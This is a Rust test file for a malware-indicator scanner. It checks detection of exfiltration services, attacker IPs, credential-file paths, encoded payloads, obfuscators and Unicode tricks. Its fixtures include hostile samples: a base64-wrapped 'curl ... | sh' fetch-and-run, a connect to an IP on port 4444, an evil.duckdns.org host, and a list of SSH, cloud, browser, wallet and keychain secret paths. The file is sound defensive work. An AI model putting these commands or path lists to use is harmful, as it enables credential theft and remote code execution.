use super::*;

fn services(src: &str) -> Vec<(ServiceClass, &'static str)> {
    scan(src)
        .services
        .iter()
        .map(|s| (s.class, s.domain))
        .collect()
}

fn secrets(src: &str) -> Vec<SecretClass> {
    scan(src).sensitive_paths.iter().map(|s| s.class).collect()
}

fn b64(data: &[u8]) -> String {
    const ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for chunk in data.chunks(3) {
        let n = chunk
            .iter()
            .enumerate()
            .fold(0u32, |acc, (i, &b)| acc | u32::from(b) << (16 - 8 * i));
        for i in 0..=chunk.len() {
            out.push(char::from(ALPHABET[((n >> (18 - 6 * i)) & 63) as usize]));
        }
        for _ in chunk.len()..3 {
            out.push('=');
        }
    }
    out
}

#[test]
fn urls_carry_scheme_host_line_and_service() {
    let f = scan("x = 1\nfetch('https://user@Discord.com:443/api/webhooks/123/abc').then()\n");
    assert_eq!(f.urls.len(), 1);
    let u = &f.urls[0];
    assert_eq!(u.scheme, "https");
    assert_eq!(u.host, "discord.com");
    assert_eq!(u.line, 2);
    assert_eq!(u.url, "https://user@Discord.com:443/api/webhooks/123/abc");
    assert_eq!(u.service, Some(ServiceClass::Webhook));
    assert_eq!(f.domains, ["discord.com"]);
}

#[test]
fn ordinary_code_host_urls_are_not_services() {
    let f = scan("see https://github.com/org/repo and https://discord.com/invite/abc.\n");
    assert!(f.services.is_empty(), "{:?}", f.services);
    assert!(f.urls.iter().all(|u| u.service.is_none()));
    assert_eq!(
        f.urls[1].url, "https://discord.com/invite/abc",
        "trailing punctuation trimmed"
    );
    assert_eq!(f.domains, ["github.com", "discord.com"]);
}

#[test]
fn unknown_schemes_and_bare_separators_are_not_urls() {
    assert!(
        scan("file:///etc/hosts javascript://x a://b")
            .urls
            .is_empty()
    );
    assert!(scan("myhttp://example.com").urls.is_empty());
}

#[test]
fn each_service_class_is_recognised() {
    let cases = [
        (
            "https://hooks.slack.com/services/T/B/X",
            ServiceClass::Webhook,
        ),
        ("https://pastebin.com/raw/abcd", ServiceClass::Paste),
        ("https://abcd-12.ngrok-free.app/x", ServiceClass::Tunnel),
        ("http://x.oastify.com", ServiceClass::Oast),
        (
            "https://api.telegram.org/bot123:abc/sendDocument",
            ServiceClass::BotApi,
        ),
        ("https://transfer.sh/upload", ServiceClass::FileDrop),
        (
            "https://raw.githubusercontent.com/a/b/main/x.py",
            ServiceClass::CodeHost,
        ),
        (
            "https://cdn.discordapp.com/attachments/1/2/a.exe",
            ServiceClass::CodeHost,
        ),
        ("https://api.ipify.org?format=json", ServiceClass::IpLookup),
        ("tcp://evil.duckdns.org:4444", ServiceClass::DynamicDns),
    ];
    for (src, class) in cases {
        let found = services(src);
        assert_eq!(
            found.iter().map(|s| s.0).collect::<Vec<_>>(),
            [class],
            "{src}"
        );
        assert_eq!(scan(src).urls[0].service, Some(class), "{src}");
    }
}

#[test]
fn bare_hosts_count_only_where_they_read_as_hosts() {
    assert_eq!(
        services("host = 'abc.ngrok.io'"),
        [(ServiceClass::Tunnel, "ngrok.io")]
    );
    assert_eq!(
        services("u = 'pastebin.com/raw/x'"),
        [(ServiceClass::Paste, "pastebin.com")]
    );
    // File names and look-alike hosts are not services.
    assert!(services("cp build.sh /tmp/temp.sh && sh temp.sh").is_empty());
    assert!(services("open('temp.sh')").is_empty());
    assert!(services("https://notngrok.io/ https://pastebin.community/").is_empty());
}

#[test]
fn ips_are_scoped_and_versions_skipped() {
    let f = scan("s.connect(('45.61.12.9', 4444))\nbind 127.0.0.1 and 192.168.1.20\n");
    assert_eq!(
        f.ips
            .iter()
            .map(|i| (i.ip.as_str(), i.line))
            .collect::<Vec<_>>(),
        [("45.61.12.9", 1)]
    );
    let local: Vec<_> = f.local_ips.iter().map(|i| i.scope).collect();
    assert_eq!(local, [IpScope::Loopback, IpScope::Private]);

    let benign = scan(
        "__version__ = \"1.2.3.4\"\nrequests>=2.31.0.1\nlib@4.5.6.7\nv=1.2.3.4.5\n256.1.1.1 01.2.3.4",
    );
    assert!(benign.ips.is_empty(), "{:?}", benign.ips);
    assert_eq!(
        scan("host = '8.8.8.8'").ips.len(),
        1,
        "a plain assignment is not a version"
    );
    assert_eq!(
        scan("x 192.0.2.1").local_ips[0].scope,
        IpScope::Documentation
    );
}

#[test]
fn sensitive_paths_are_classified() {
    let cases = [
        (
            "open(os.path.expanduser('~/.ssh/id_rsa'))",
            SecretClass::Ssh,
        ),
        ("'~/.aws/credentials'", SecretClass::Cloud),
        ("path.join(home, '.npmrc')", SecretClass::Registry),
        (
            "'AppData\\\\Local\\\\Google\\\\Chrome\\\\User Data\\\\Default\\\\Login Data'",
            SecretClass::Browser,
        ),
        (
            "roaming + '/discord/Local Storage/leveldb'",
            SecretClass::Discord,
        ),
        ("'Telegram Desktop/tdata'", SecretClass::Telegram),
        ("ext/nkbihfbeogaeaoehlefnkodbefgpgknn", SecretClass::Wallet),
        ("cat /etc/passwd", SecretClass::System),
        ("~/.bash_history", SecretClass::History),
        ("security find-generic-password -s x", SecretClass::Keychain),
    ];
    for (src, class) in cases {
        let found = secrets(src);
        assert!(
            !found.is_empty() && found.iter().all(|c| *c == class),
            "{src}: {found:?}"
        );
    }
}

#[test]
fn sensitive_path_in_prose_is_still_reported() {
    // Rules weigh context; the fact is the mention.
    assert_eq!(
        secrets("Put your deploy key in the .ssh folder."),
        [SecretClass::Ssh]
    );
}

#[test]
fn sensitive_path_look_alikes_are_not_reported() {
    // Public keys are not secrets.
    assert!(secrets("cat ~/id_rsa.pub").is_empty());
    // Attribute access and prose casing are not paths.
    assert!(
        secrets("boto.aws.region; self.kube_client; 'local state' of the component").is_empty()
    );
    assert!(secrets("printf(\"name\\tdata\")").is_empty());
}

#[test]
fn base64_blobs_are_decoded_and_classified() {
    let payload = "import os; os.system('curl http://example.invalid | sh') # ".repeat(5);
    let src = format!(
        "x = 1\nexec(base64.b64decode('{}'))\n",
        b64(payload.as_bytes())
    );
    let f = scan(&src);
    assert_eq!(f.blobs.len(), 1);
    let blob = &f.blobs[0];
    assert_eq!(
        (blob.kind, blob.line, blob.printable),
        (BlobKind::Base64, 2, true)
    );
    assert!(
        blob.preview
            .as_deref()
            .is_some_and(|p| p.starts_with("import os;")),
        "{blob:?}"
    );
    assert!(
        blob.preview
            .as_deref()
            .is_some_and(|p| p.chars().count() <= 120)
    );

    let mut elf = b"\x7fELF\x02\x01\x01\x00".to_vec();
    elf.extend((0u8..=255).cycle().take(300));
    let f = scan(&format!("'{}'", b64(&elf)));
    assert_eq!(f.blobs[0].magic, Some(Magic::Elf));
    assert!(!f.blobs[0].printable && f.blobs[0].preview.is_none());
}

#[test]
fn hex_blobs_are_reported() {
    let hex: String = b"print('hello from a hex blob')\n"
        .repeat(8)
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect();
    let f = scan(&format!("exec(bytes.fromhex('{hex}'))"));
    assert_eq!(f.blobs.len(), 1);
    assert_eq!(f.blobs[0].kind, BlobKind::Hex);
    assert!(f.blobs[0].printable);
}

#[test]
fn short_or_non_random_runs_are_not_blobs() {
    assert!(scan("token = 'SGVsbG8gd29ybGQ='").blobs.is_empty());
    let long_ident = "get_the_value_of_the_thing_".repeat(10);
    assert!(scan(&long_ident).blobs.is_empty());
    let path = "node_modules/some/deeply/nested/package/".repeat(8);
    assert!(scan(&path).blobs.is_empty());
}

#[test]
fn js_obfuscator_signatures() {
    let src = "var _0x3f2a=['log'];(function(_0x1b2c,_0x4d5e){while(!![]){try{_0x1b2c['push'](_0x1b2c['shift']());}catch(e){}}})(_0x3f2a,0x1);";
    let obf = scan(src).obfuscation;
    assert!(obf.hex_identifiers >= 4, "{obf:?}");
    let kinds: Vec<_> = obf.markers.iter().map(|m| m.kind).collect();
    assert!(
        kinds.contains(&MarkerKind::JsObfuscatorLoop)
            && kinds.contains(&MarkerKind::JsObfuscatorRotate),
        "{kinds:?}"
    );
    // Hex literals and words containing `_0x` are not identifiers.
    assert_eq!(
        scan("x = 0x1234; a_0x1234; _0x12; _0x1234567")
            .obfuscation
            .hex_identifiers,
        0
    );
}

#[test]
fn python_packer_signatures() {
    let cases = [
        (
            "from pytransform import pyarmor_runtime\npyarmor_runtime()\n__pyarmor__(__name__, __file__, b'...')",
            MarkerKind::Pyarmor,
        ),
        (
            "import marshal\nexec(marshal.loads(b'\\xe3'))",
            MarkerKind::MarshalExec,
        ),
        (
            "exec(zlib.decompress(base64.b64decode('eJ...')))",
            MarkerKind::PythonDecodeExec,
        ),
        (
            "_ = lambda __ : __import__('zlib').decompress(__[::-1]);exec((_)(b'x'))",
            MarkerKind::PythonObfuscator,
        ),
    ];
    for (src, kind) in cases {
        let markers = scan(src).obfuscation.markers;
        assert!(markers.iter().any(|m| m.kind == kind), "{src}: {markers:?}");
    }
    assert!(
        scan("import marshal\ndata = marshal.loads(blob)")
            .obfuscation
            .markers
            .is_empty()
    );
}

#[test]
fn minified_bundle_is_minified_but_not_encoded() {
    let bundle = "function a(b){return b+1}var c=a(2);console.log(c);".repeat(200);
    let f = scan(&bundle);
    assert!(f.obfuscation.minified);
    assert_eq!(f.obfuscation.long_lines, 1);
    assert!(f.obfuscation.markers.is_empty() && f.obfuscation.hex_identifiers == 0);
    assert_eq!(f.obfuscation.escape_heavy_spans, 0);
    assert!(f.blobs.is_empty());
    assert!(!scan("def f():\n    return 1\n").obfuscation.minified);
}

#[test]
fn escape_heavy_strings_are_counted() {
    let src = r#"eval("\x63\x6f\x6e\x73\x6f\x6c\x65\x2e\x6c\x6f\x67\x28\x31\x29")"#;
    let obf = scan(src).obfuscation;
    assert_eq!((obf.escapes, obf.escape_heavy_spans), (14, 1));
    assert!(obf.escape_permille > 500);
    // A few scattered escapes are ordinary.
    let obf = scan(r#"print("a\x41 b\u00e9 c\n d\t")"#).obfuscation;
    assert_eq!((obf.escapes, obf.escape_heavy_spans), (2, 0));
}

#[test]
fn bidi_and_zero_width_characters() {
    let src = "\u{FEFF}let a = 1;\nif (x /*\u{202E} } \u{2066}*/) {}\nlet b\u{200B}c = 2;";
    let u = scan(src).unicode;
    assert_eq!(
        u.bidi
            .iter()
            .map(|c| (c.codepoint.as_str(), c.line))
            .collect::<Vec<_>>(),
        [("U+202E", 2), ("U+2066", 2)]
    );
    assert_eq!(
        u.zero_width
            .iter()
            .map(|c| (c.codepoint.as_str(), c.line))
            .collect::<Vec<_>>(),
        [("U+200B", 3)]
    );
    assert!(
        scan("\u{FEFF}plain").unicode.zero_width.is_empty(),
        "a leading BOM is ordinary"
    );
}

#[test]
fn homoglyph_identifiers_mix_scripts() {
    // `reqυests` with Greek upsilon; `рrint` with Cyrillic er.
    let u = scan("import reqυests\n\u{0440}rint(1)\n").unicode;
    let tokens: Vec<_> = u
        .homoglyph_identifiers
        .iter()
        .map(|t| (t.token.as_str(), t.line))
        .collect();
    assert_eq!(tokens, [("reqυests", 1), ("\u{0440}rint", 2)]);
    // Whole words in one script are fine.
    assert!(
        scan("# привет мир\nalpha = 'αβγ'\n")
            .unicode
            .homoglyph_identifiers
            .is_empty()
    );
}

#[test]
fn unicode_hits_keep_file_lines_and_offsets_across_ascii_lines() {
    // Only the non-ASCII lines are decoded; lines, the end-of-file token and
    // a BOM that is not at the start of the file must come out as before.
    let src = "plain\n\nx = 1\n\u{FEFF}y = reqυests\r\nz\nlast \u{0440}rint";
    let u = scan(src).unicode;
    let tokens: Vec<_> = u
        .homoglyph_identifiers
        .iter()
        .map(|t| (t.token.as_str(), t.line))
        .collect();
    assert_eq!(tokens, [("reqυests", 4), ("\u{0440}rint", 6)]);
    let zw: Vec<_> = u
        .zero_width
        .iter()
        .map(|c| (c.codepoint.as_str(), c.line))
        .collect();
    assert_eq!(zw, [("U+FEFF", 4)]);
}

#[test]
fn lists_are_capped() {
    let src = "http://a.example.com/ 8.8.4.4\n".repeat(MAX_ENTRIES + 50);
    let f = scan(&src);
    assert_eq!(f.urls.len(), MAX_ENTRIES);
    assert_eq!(f.ips.len(), MAX_ENTRIES);
    assert_eq!(f.domains.len(), 1);
    assert!(f.truncated);
    assert_eq!(
        f.urls[MAX_ENTRIES - 1].line,
        u32::try_from(MAX_ENTRIES).unwrap_or(0)
    );
}

#[test]
fn hostile_inputs_do_not_panic() {
    for src in [
        "://",
        "http://",
        "1.2.3.",
        "\\",
        "\\u{",
        "\\x4",
        "_0x",
        "é://é",
        "http://[::1]/",
        "\u{202E}",
    ] {
        let _ = scan(src);
    }
    let _ = scan(&"9.".repeat(10_000));
    let _ = scan(&"http://".repeat(10_000));
}

/// Throughput on 50 MB single-line inputs. Not a timed assertion: run by hand with
/// `cargo test --release -p ossprey-static -- --ignored --nocapture text_throughput`.
#[test]
#[ignore = "benchmark, run by hand in release"]
fn text_throughput_on_50mb_single_lines() {
    const SIZE: usize = 50 * 1024 * 1024;
    let fill = |unit: &str| unit.repeat(SIZE / unit.len() + 1);
    let inputs = [
        (
            "minified js",
            fill(
                "function(e,t){var n=t(12),r=\"https://api.example.com/v1/\"+e.id;return n.get(r,{v:\"1.2.3\",ip:\"10.0.0.1\"})},",
            ),
        ),
        (
            "obfuscated js",
            fill(
                "var _0x3f2a=_0x1b2c('0x1f'),_0x4d5e=\"\\x68\\x74\\x74\\x70\";while(!![]){_0x3f2a['push'](_0x3f2a['shift']());}",
            ),
        ),
        (
            "one base64 run",
            fill("QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo0NTY3ODkw"),
        ),
        ("digits and dots", fill("1.2.3.4.5.6.7.8.9.")),
        (
            "non-ascii prose",
            fill("Привет мир, это текст; ünïcödé ασδ "),
        ),
        ("url soup", fill("http://a.b/c?https://x.y/")),
    ];
    for (name, input) in &inputs {
        let start = std::time::Instant::now();
        let facts = scan(input);
        let secs = start.elapsed().as_secs_f64();
        #[allow(clippy::cast_precision_loss, reason = "throughput report only")]
        let mbps = input.len() as f64 / 1e6 / secs;
        println!(
            "{name:>16}: {mbps:8.0} MB/s ({} blobs, {} urls)",
            facts.blobs.len(),
            facts.urls.len()
        );
    }
}
